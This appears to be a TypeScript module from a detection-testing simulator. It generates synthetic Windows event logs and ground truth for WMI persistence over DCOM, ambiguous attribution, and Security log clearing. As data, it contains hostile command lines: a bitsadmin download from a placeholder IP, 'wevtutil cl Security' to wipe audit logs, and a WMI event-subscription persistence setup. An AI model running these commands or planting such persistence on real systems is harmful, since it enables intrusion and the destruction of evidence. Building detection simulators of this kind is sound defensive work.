import { type EventModel, security, sysmon, wmi } from '../events/index.ts';
import { seconds } from '../evtx/filetime.ts';
import { type AttackPlan, CMD, CRADLE, nameOf, POWERSHELL, type SimulatedAttack, toolOf } from './attack-parts.ts';
import { createdProcess, dcomCall, providerHost, type RemoteCall } from './calls.ts';
import type { Enterprise } from './enterprise.ts';
import type { SimulatedHost } from './host.ts';
import type { TrueHop, TrueSubscription } from './truth.ts';

const QUERY =
  "SELECT * FROM __InstanceCreationEvent WITHIN 5 WHERE TargetInstance ISA 'Win32_LogonSession' AND TargetInstance.LogonType = 3";

interface Names {
  readonly filter: string;
  readonly consumer: string;
  readonly payload: string;
}

/** 19, 20, 21 and 5861 of a triad; the binding's record may stand before its filter's (DOMAIN 2.2 #7). */
function written(out: EventModel[], time: bigint, plan: AttackPlan, names: Names): void {
  const { target, account } = plan;
  const user = nameOf(account);
  const sid = account.sid;
  out.push(
    sysmon.filter({ name: names.filter, query: QUERY, user }, target.at(time + 300_000n)),
    sysmon.consumer({ name: names.consumer, destination: names.payload, user }, target.at(time)),
    sysmon.binding({ filter: names.filter, consumer: names.consumer, user }, target.at(time + 200_000n)),
    wmi.binding(
      { name: names.filter, query: QUERY, eventNamespace: 'root\\cimv2', creatorSid: sid },
      {
        class: 'CommandLineEventConsumer',
        name: names.consumer,
        properties: { CommandLineTemplate: names.payload },
        creatorSid: sid,
      },
      target.at(time + 250_000n),
    ),
  );
}

function removed(out: EventModel[], time: bigint, plan: AttackPlan, names: Names): void {
  const { target, account } = plan;
  const write = { operation: 'Deleted' as const, user: nameOf(account) };
  out.push(
    sysmon.consumer({ name: names.consumer, destination: names.payload, ...write }, target.at(time)),
    sysmon.filter({ name: names.filter, query: QUERY, ...write }, target.at(time + 100_000n)),
    sysmon.binding({ filter: names.filter, consumer: names.consumer, ...write }, target.at(time + 200_000n)),
  );
}

function subscriptionOf(plan: AttackPlan, names: Names, hasFired: boolean): TrueSubscription {
  return { computer: plan.target.computer, ...names, creator: nameOf(plan.account), hasFired };
}

function plantingHop(plan: AttackPlan, time: bigint, source: TrueHop['source']): TrueHop {
  return {
    target: plan.target.computer,
    account: nameOf(plan.account),
    method: 'wmi-dcom',
    time: time + plan.target.clockOffset,
    source,
  };
}

/** A triad planted over DCOM, that fires as SYSTEM and is removed within a minute. */
export function remoteTriad(enterprise: Enterprise, plan: AttackPlan): SimulatedAttack {
  const out: EventModel[] = [];
  const { target } = plan;
  const names = { filter: 'SyncCheckFilter', consumer: 'SyncCheck', payload: CRADLE };
  const caller = toolOf(out, plan, 'C:\\Users\\Public\\mv.exe', '"C:\\Users\\Public\\mv.exe" -t 7');
  const call: RemoteCall = { ...plan, caller, controller: enterprise.controller };
  const records = dcomCall(out, plan.time, call);
  const at = records.calledAt + 500_000n;
  written(out, at, plan, names);
  const fired = plan.time + seconds(18);
  const provider = target.start(out, fired - 400_000n, {
    image: 'C:\\Windows\\System32\\wbem\\WmiPrvSE.exe',
    commandLine: 'C:\\Windows\\system32\\wbem\\wmiprvse.exe -Embedding',
    parent: target.services.dcom,
  });
  out.push(
    wmi.providerStarted(
      'CommandLineEventConsumer',
      '%systemroot%\\system32\\wbem\\wbemcons.dll',
      provider.pid,
      target.at(fired - 100_000n),
    ),
  );
  const child = target.start(out, fired, { image: POWERSHELL, commandLine: names.payload, parent: provider });
  target.end(out, fired + seconds(9), child);
  removed(out, plan.time + seconds(50), plan, names);
  const source = { computer: plan.source.computer, address: records.address, pid: caller.pid };
  return {
    truth: {
      name: 'remote triad',
      hops: [plantingHop(plan, at, source)],
      children: [],
      subscriptions: [subscriptionOf(plan, names, true)],
      analytics: ['C02', 'C03', 'C05'],
      level: 'critical',
    },
    events: out,
  };
}

/** A triad written while one account is logged on from two machines: no record tells which of them wrote it. */
export function twoCandidates(enterprise: Enterprise, plan: AttackPlan, other: SimulatedHost): SimulatedAttack {
  const out: EventModel[] = [];
  // Other content than the other triad's: equal content on two machines is one case.
  const payload = 'cmd.exe /c bitsadmin /transfer two http://203.0.113.46/t.bin C:\\ProgramData\\t.bin';
  const names = { filter: 'TwoWaysFilter', consumer: 'TwoWays', payload };
  const controller = enterprise.controller;
  const caller = toolOf(out, plan, POWERSHELL, `"${POWERSHELL}"`);
  dcomCall(out, plan.time, { ...plan, caller, controller });
  const second = toolOf(out, { ...plan, source: other }, POWERSHELL, `"${POWERSHELL}"`);
  dcomCall(out, plan.time + 4_000_000n, { ...plan, source: other, caller: second, controller });
  const at = plan.time + seconds(2);
  written(out, at, plan, names);
  return {
    truth: {
      name: 'two candidates',
      hops: [{ ...plantingHop(plan, at, {}), isAmbiguous: true }],
      children: [],
      subscriptions: [subscriptionOf(plan, names, false)],
      analytics: ['C01', 'C02'],
      level: 'high',
    },
    events: out,
  };
}

/** A remote process, and the target's Security log cleared after it: logons and connections are gone. */
export function clearedLog(enterprise: Enterprise, plan: AttackPlan): SimulatedAttack {
  const out: EventModel[] = [];
  const { target, account } = plan;
  const caller = toolOf(out, plan, POWERSHELL, `"${POWERSHELL}"`);
  const call: RemoteCall = { ...plan, caller, controller: enterprise.controller };
  const records = dcomCall(out, plan.time, call);
  const provider = providerHost(out, records.calledAt - 150_000n, target);
  const line = 'cmd.exe /c wevtutil cl Security';
  const child = createdProcess(out, call, records, provider, CMD, line);
  const cleared = child.time + seconds(3);
  out.push(security.logCleared(account, records.logonId, target.at(cleared)));
  const kept = out.filter(
    (event) =>
      event.computer !== target.computer || event.channel !== 'Security' || event.time >= cleared + target.clockOffset,
  );
  return {
    truth: {
      name: 'cleared log',
      hops: [],
      children: [{ computer: target.computer, pid: child.process.pid, commandLine: line }],
      subscriptions: [],
      analytics: ['T01'],
      level: 'low',
    },
    events: kept,
  };
}
